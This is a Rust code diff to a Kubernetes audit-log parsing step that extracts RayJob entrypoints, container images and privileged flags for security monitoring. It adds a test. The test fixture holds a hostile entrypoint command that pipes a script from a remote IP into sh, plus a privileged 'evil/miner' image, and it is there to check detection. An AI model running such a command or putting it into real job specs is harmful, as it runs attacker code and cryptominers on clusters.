@@ -86,7 +86,12 @@ pub static K8S_AUDIT: NamedStep = NamedStep {
     paths: &[
         "kubernetes.audit.objectRef.apiGroup",
         "kubernetes.audit.objectRef.subresource",
+        "kubernetes.audit.requestObject.spec.entrypoint",
     ],
+    find: Some((
+        "kubernetes.audit.requestObject",
+        &["image", "privileged", "storageUri"],
+    )),
     run: |ctx| {
         let ev = &mut ctx.event;
         let verb = ev.get_str(f::EVENT_ACTION).unwrap_or("").to_string();
@@ -137,14 +142,23 @@ pub static K8S_AUDIT: NamedStep = NamedStep {
             };
             let mut found = Scan::default();
             if let Some(doc) = &doc {
-                let hits = schema::json::find_keys(
-                    doc.source(),
-                    doc.text(),
-                    "requestObject",
-                    &["image", "privileged", "storageUri"],
-                )
-                .map_err(|e| Reject::new(e.to_string()))?;
-                for (key, v) in hits {
+                // Collected in the extraction pass; a document built some
+                // other way is searched now.
+                let searched;
+                let hits = match doc.hits("requestObject") {
+                    Some(h) => h,
+                    None => {
+                        searched = schema::json::find_keys(
+                            doc.source(),
+                            doc.text(),
+                            "requestObject",
+                            &["image", "privileged", "storageUri"],
+                        )
+                        .map_err(|e| Reject::new(e.to_string()))?;
+                        &searched[..]
+                    }
+                };
+                for (key, v) in hits.iter().cloned() {
                     match (key, v) {
                         (0, Value::Str(s))
                             if !s.is_empty()
@@ -174,17 +188,10 @@ pub static K8S_AUDIT: NamedStep = NamedStep {
             }
             let entrypoint = match (component, &doc) {
                 // RayJob: spec.entrypoint is the command line.
-                (Some("ray"), Some(doc)) => schema::json::find_keys(
-                    doc.source(),
-                    doc.text(),
-                    "requestObject.spec",
-                    &["entrypoint"],
-                )
-                .ok()
-                .and_then(|hits| {
-                    hits.into_iter()
-                        .find_map(|(_, v)| v.as_str().map(Str::from))
-                }),
+                (Some("ray"), Some(_)) => ev
+                    .get("kubernetes.audit.requestObject.spec.entrypoint")
+                    .and_then(Value::as_str)
+                    .map(Str::from),
                 // Argo: spec.entrypoint names a template; its command runs.
                 (Some("argo"), _) => ev
                     .get("kubernetes.audit.requestObject")
@@ -229,6 +236,27 @@ mod tests {
             text(&e, "kubernetes.audit.requestObject.kind"),
             "InferenceService"
         );
+    }
+
+    #[test]
+    fn rayjob_entrypoint_and_images_in_one_pass() {
+        let rayjob = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"a3","stage":"ResponseComplete","requestURI":"/apis/ray.io/v1/namespaces/ml/rayjobs","verb":"create","user":{"username":"bob"},"sourceIPs":["10.1.2.3"],"objectRef":{"resource":"rayjobs","namespace":"ml","name":"train-7","apiGroup":"ray.io","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":201},"requestObject":{"apiVersion":"ray.io/v1","kind":"RayJob","metadata":{"name":"train-7"},"spec":{"entrypoint":"curl -s http://203.0.113.9/x.sh | sh","rayClusterSpec":{"headGroupSpec":{"template":{"spec":{"containers":[{"name":"head","image":"rayproject/ray:2.40.0"}]}}},"workerGroupSpecs":[{"template":{"spec":{"containers":[{"name":"w","image":"evil/miner:2","securityContext":{"privileged":true}}]}}}]}}},"requestReceivedTimestamp":"2026-11-30T10:22:00Z","stageTimestamp":"2026-11-30T10:22:00Z"}"#;
+        let e = parse("kubernetes.audit", rayjob).unwrap();
+        assert_eq!(text(&e, "mlops.component"), "ray");
+        assert_eq!(text(&e, "mlops.job.id"), "train-7");
+        assert_eq!(
+            text(&e, "mlops.job.entrypoint"),
+            "curl -s http://203.0.113.9/x.sh | sh"
+        );
+        assert_eq!(
+            text(&e, "process.command_line"),
+            "curl -s http://203.0.113.9/x.sh | sh"
+        );
+        assert_eq!(
+            text(&e, "mlops.workload.images"),
+            "rayproject/ray:2.40.0,evil/miner:2"
+        );
+        assert_eq!(text(&e, "mlops.workload.privileged"), "true");
     }
 
     #[test]
